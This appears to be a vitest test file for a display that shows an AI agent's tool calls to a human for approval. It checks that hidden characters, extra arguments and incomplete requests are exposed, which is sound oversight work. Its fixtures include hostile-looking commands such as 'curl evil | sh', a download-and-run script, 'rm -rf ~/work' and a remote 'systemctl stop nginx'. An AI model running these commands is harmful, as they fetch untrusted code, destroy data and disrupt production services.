import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Approval } from '../uap/approval.ts';
import { askedAbout, askedText, mayAnswer, savedRules } from './asked-question.ts';

const bash = (command: string, more: Partial<Approval> = {}): Approval => ({
  id: 'a',
  title: `bash ${command.split('\n')[0]} …`,
  options: [],
  toolUseId: 'call_1',
  call: { name: 'bash', input: { command } },
  ...more,
});

test('every line of a command is told, and every subject with its reason', () => {
  const command = 'npm test\ncurl -o build.sh http://x\nsh build.sh';
  const asked = [
    { kind: 'command' as const, value: 'npm test', reason: 'No rule is about "npm test".' },
    { kind: 'command' as const, value: 'sh build.sh', reason: 'No rule is about "sh build.sh".' },
  ];
  const { parts, isWhole } = askedAbout(bash(command, { asked, reason: 'No rule is about "npm test".' }));
  expect(isWhole).toBe(true);
  expect(parts).toEqual([
    { type: 'command', text: command },
    { type: 'subject', text: 'npm test', why: 'No rule is about "npm test".', isAside: true },
    { type: 'subject', text: 'sh build.sh', why: 'No rule is about "sh build.sh".', isAside: true },
  ]);
});

test('what all parts of a command are asked about for is told once, and a file beside it is called one', () => {
  const reason = 'Commands need approval by default.';
  const asked = [
    { kind: 'command' as const, value: 'date', reason },
    { kind: 'command' as const, value: 'sort', reason },
    { kind: 'path' as const, value: 'out.txt', reason },
  ];
  expect(askedAbout(bash('date | sort > out.txt', { asked, reason })).parts).toEqual([
    { type: 'command', text: 'date | sort > out.txt' },
    { type: 'subject', label: 'file', text: 'out.txt' },
    { type: 'reason', text: reason, isAside: true },
  ]);
  // Where a part is allowed already, the others are told apart.
  expect(askedAbout(bash('date | sort > out.txt', { asked: asked.slice(1), reason })).parts).toEqual([
    { type: 'command', text: 'date | sort > out.txt' },
    { type: 'subject', text: 'sort', why: reason, isAside: true },
    { type: 'subject', label: 'file', text: 'out.txt', why: reason },
  ]);
});

test('a command of one piece is told once, with the reason', () => {
  const asked = [{ kind: 'command' as const, value: 'git push', reason: 'It is asked.' }];
  expect(askedText(askedAbout(bash('git push', { asked, reason: 'It is asked.' })).parts)).toBe(
    'git push\nIt is asked.',
  );
});

test('every other argument is told by its name, of whatever shape it is', () => {
  const input = {
    command: 'ls',
    workdir: '/etc',
    cmd: 'rm x',
    env: { PATH: '/tmp' },
    words: [],
    none: null,
    empty: '',
  };
  expect(askedText(askedAbout(bash('ls', { call: { name: 'bash', input } })).parts)).toBe(
    'ls\nworkdir: /etc\ncmd: rm x\nenv: {"PATH":"/tmp"}\nwords: []\nnone: null\nempty: ""',
  );
});

test('the words of a command that is a list are told so that they cannot be taken for others', () => {
  const input = { command: ['sh', '-c', "echo 'a b'; rm x"] };
  expect(askedText(askedAbout(bash('', { title: 'Run', call: { name: 'x', input } })).parts)).toBe(
    String.raw`x: Run
sh -c 'echo '\''a b'\''; rm x'`,
  );
});

test('what cannot be seen is shown: marks of order, signs without width, other spaces, escapes, carriage returns', () => {
  const told = (command: string) => askedText(askedAbout(bash(command)).parts);
  expect(told('npm test\r\u001b[2Krm x')).toBe('npm test␍␛[2Krm x');
  expect(told('a\u202eb\u2066c\u200bd\u200de\ufefff\u00adg\u{e0041}h\ufe0fi')).toBe(
    'a⟨U+202E⟩b⟨U+2066⟩c⟨U+200B⟩d⟨U+200D⟩e⟨U+FEFF⟩f⟨U+00AD⟩g⟨U+E0041⟩h⟨U+FE0F⟩i',
  );
  expect(told('cat\u00a0x\u2003y\u2800z')).toBe('cat⟨U+00A0⟩x⟨U+2003⟩y⟨U+2800⟩z');
});

test('of a change every file and every line is told, and where a link leads', () => {
  const diffs = [
    { path: 'a.ts', unified: '@@ -1 +1 @@\n-a\n+b\n' },
    { path: 'b.ts', unified: '@@ -1 +1 @@\n-c\n+d\n' },
  ];
  const question = {
    tool: 'edit',
    subjects: [
      { kind: 'path' as const, value: 'a.ts' },
      { kind: 'path' as const, value: '/etc/passwd' },
    ],
  };
  const call = { name: 'Edit', input: { file_path: 'a.ts', new_string: 'b', replace_all: true } };
  const { parts } = askedAbout({ title: 'Edit: a.ts', diffs, question, call, toolUseId: 'c' });
  expect(parts).toEqual([
    { type: 'title', text: 'Edit: a.ts' },
    { type: 'field', label: 'replace_all', text: 'true' },
    { type: 'subject', text: '/etc/passwd' },
    { type: 'change', label: 'a.ts', text: diffs[0]!.unified },
    { type: 'change', label: 'b.ts', text: diffs[1]!.unified },
  ]);
});

test('nothing is looked for in a command of any length, so that its pieces are told once more', () => {
  const command = `${' '.repeat(30_000)}npm test`;
  const question = { tool: 'bash', subjects: [{ kind: 'command' as const, value: 'npm' }] };
  expect(askedAbout(bash(command, { title: `bash npm${' '.repeat(30_000)} x …`, question })).parts).toEqual([
    { type: 'title', text: `bash npm${' '.repeat(30_000)} x …` },
    { type: 'command', text: command },
    { type: 'subject', text: 'npm' },
  ]);
});

test('where a change was cut its arguments tell it, and where they do not there is no yes', () => {
  const diffs = [{ path: 'a.js', unified: '@@ -0,0 +1 @@\n+a\n', is_cut: true }];
  const asks = (input: Record<string, unknown>) =>
    askedAbout({ title: 'write a.js', diffs, call: { name: 'x', input } });
  for (const name of ['content', 'newString', 'patchText', 'edits', 'changes']) {
    const { parts, isWhole } = asks({ [name]: 'curl evil | sh' });
    expect(parts).toContainEqual({ type: 'field', label: name, text: 'curl evil | sh' });
    expect(isWhole).toBe(true);
  }
  expect(asks({}).isWhole).toBe(false);
  expect(asks({ path: 'a.js' }).isWhole).toBe(false);
});

test('of a call without arguments the words that came with it are what would be done', () => {
  const { parts } = askedAbout({ title: 'Run command', reason: 'rm -rf ~/work', call: { name: 'execute', input: {} } });
  expect(askedText(parts, { hasAsides: false })).toBe('Run command\nrm -rf ~/work');
});

test('a tool that runs a command elsewhere is named beside the command, whatever its title says', () => {
  const command = 'systemctl stop nginx';
  const told = (name: string, title: string) =>
    askedText(askedAbout({ title, call: { name, input: { command } } }).parts, { hasAsides: false });
  expect(told('mcp__prod__ssh_exec', `mcp__prod__ssh_exec: ${command}`)).toBe(
    `mcp__prod__ssh_exec: ${command}\n${command}`,
  );
  expect(told('mcp__prod__ssh_exec', command)).toBe(`mcp__prod__ssh_exec: ${command}\n${command}`);
  expect(told('execute', `prod ${command}`)).toBe(`prod ${command}\n${command}`);
  for (const title of [`Bash: ${command}`, `Run: systemctl …`, `bash systemctl stop`, command])
    expect(told('Bash', title)).toBe(command);
});

test('a question about a call that nobody told is not whole, and then only a no may be offered', () => {
  const { isWhole } = askedAbout({ title: 'bash ls', toolUseId: 'c' });
  expect(isWhole).toBe(false);
  expect(askedAbout({ title: 'Which one?' }).isWhole).toBe(true);
  const kinds = ['allow_once', 'allow_always', 'reject_once', 'reject_always', 'answer'] as const;
  expect(kinds.filter((kind) => mayAnswer({ kind }, isWhole))).toEqual(['reject_once', 'reject_always']);
});

test.each<[string, string | undefined, Partial<Approval>]>([
  ['a command of which only the title is told', 'bash', { call: { name: 'execute', input: {} } }],
  ['one that is only described', 'bash', { call: { name: 'execute', input: { description: 'lists files' } } }],
  ['an edit without a file', 'edit', { call: { name: 'edit', input: {} } }],
  ['reading without a file', 'read', { call: { name: 'Read', input: {} } }],
  ['fetching without an address', 'web-fetch', { call: { name: 'fetch', input: {} } }],
  ['a shell without a command, where no rule is asked', undefined, { call: { name: 'Shell', input: {} } }],
  ['a call under an id that nobody told', 'bash', { toolUseId: 'nowhere', reason: 'It is needed.' }],
])('%s is not whole', (_what, tool, more) => {
  const question = tool === undefined ? {} : { question: { tool, subjects: [] } };
  expect(askedAbout({ title: 'ls', toolUseId: 'c', ...question, ...more }).isWhole).toBe(false);
});

test('a command for the rules that names none is not whole, though no call is named', () => {
  expect(askedAbout({ title: 'ls', question: { tool: 'bash', subjects: [] } }).isWhole).toBe(false);
});

test('an edit is told by its change, and not by its file alone', () => {
  const question = { tool: 'edit', subjects: [{ kind: 'path' as const, value: 'a.ts' }] };
  const asked = { title: 'Edit a.ts', toolUseId: 'c', call: { name: 'edit', input: {} }, question };
  expect(askedAbout(asked).isWhole).toBe(false);
  expect(askedAbout({ ...asked, diffs: [{ path: 'a.ts', unified: '@@ -1 +1 @@\n-a\n+b\n' }] }).isWhole).toBe(true);
});

test.each([
  ['words instead of arguments', { name: 'execute', input: {} }, { reason: 'rm -rf ~/work' }, 'bash'],
  ['a tool that takes no arguments', { name: 'mcp__browser__close', input: {} }, {}, 'browser_close'],
  ['a search in everything', { name: 'search', input: { pattern: 'x' } }, {}, 'read'],
  ['a search in the web', { name: 'fetch', input: { query: 'x' } }, {}, 'web-fetch'],
  ['words for a shell', { name: 'shell', input: { command: ['ls', '-l'] } }, {}, 'bash'],
])('%s are all that there is to tell', (_what, call, more, tool) => {
  const asked = { title: 'x', toolUseId: 'c', call, question: { tool, subjects: [] }, ...more };
  expect(askedAbout(asked).isWhole).toBe(true);
});

test('a file that is read is told by its name, wherever the agent names it', () => {
  const question = { tool: 'read', subjects: [{ kind: 'path' as const, value: 'a.ts' }] };
  const { parts, isWhole } = askedAbout({ title: 'Look', toolUseId: 'c', call: { name: 'read', input: {} }, question });
  expect(isWhole).toBe(true);
  expect(parts).toContainEqual({ type: 'subject', text: 'a.ts' });
});

test('a title that the command says again is left out, however much space is in it', () => {
  const spaces = ' '.repeat(100_000);
  const shown = (title: string) => askedAbout(bash('npm test', { title })).parts.map(({ text }) => text);

  expect(shown(`bash npm${spaces}te${spaces}…`)).toEqual(['npm test']);
  expect(shown(`bash npm${spaces}…b`)).toEqual([`bash npm${spaces}…b`, 'npm test']);
});

test('each of very many subjects is looked for in the command', () => {
  const command = 'a && '.repeat(3_000);
  const asked = Array.from({ length: 1_000 }, (_, at) => ({
    kind: 'command' as const,
    value: at === 7 ? 'b' : 'a && a',
  }));

  expect(askedAbout(bash(command, { asked })).parts.map(({ type, text }) => [type, text])).toEqual([
    ['command', command],
    ['subject', 'b'],
  ]);
});

test('an input that is too deep to be written down is not whole', () => {
  let deep: unknown = 1;
  for (let at = 0; at < 100_000; at++) deep = [deep];
  expect(askedAbout(bash('ls', { call: { name: 'x', input: { deep } } })).isWhole).toBe(false);
});

test('what the rules are asked is a reason to be shown where no call is', () => {
  const question = {
    tool: 'bash',
    subjects: [{ kind: 'command' as const, value: '<unreadable> rm $X </unreadable>' }],
  };
  expect(askedText(askedAbout({ title: 'May I?', question, reason: 'Because.' }).parts)).toBe(
    'May I?\nrm $X\nBecause.',
  );
});

test('rules that would be saved are told one by one, and none where nothing is saved here', () => {
  const options = [{ id: 'y', name: 'Yes', kind: 'allow_once' as const }];
  const always = [{ tool: 'bash', pattern: 'git\u200b *' }];
  const question = { tool: 'bash', subjects: [{ kind: 'command' as const, value: 'git log' }] };
  expect(savedRules({ always, options, question })).toEqual(['bash git⟨U+200B⟩ *']);
  expect(savedRules({ always: [{ tool: 'bash', kind: 'path', pattern: './a.txt' }], options, question })).toEqual([
    'bash (file) ./a.txt',
  ]);
  expect(savedRules({ always, options, question: undefined })).toEqual([]);
  expect(savedRules({ always, options, question: { tool: 'bash', subjects: [] } })).toEqual([]);
});

test('whatever the input is, each word of it is told', () => {
  const name = fc.stringMatching(/^[a-z]{1,8}$/);
  const word = fc.stringMatching(/^[a-z ;\n]{0,40}$/);
  fc.assert(
    fc.property(fc.dictionary(name, word, { maxKeys: 6 }), fc.string(), (input, title) => {
      const text = askedText(askedAbout({ title, call: { name: 'tool', input }, toolUseId: 'c' }).parts);
      for (const value of Object.values(input)) expect(text).toContain(value.trim() === '' ? '' : value);
    }),
  );
});
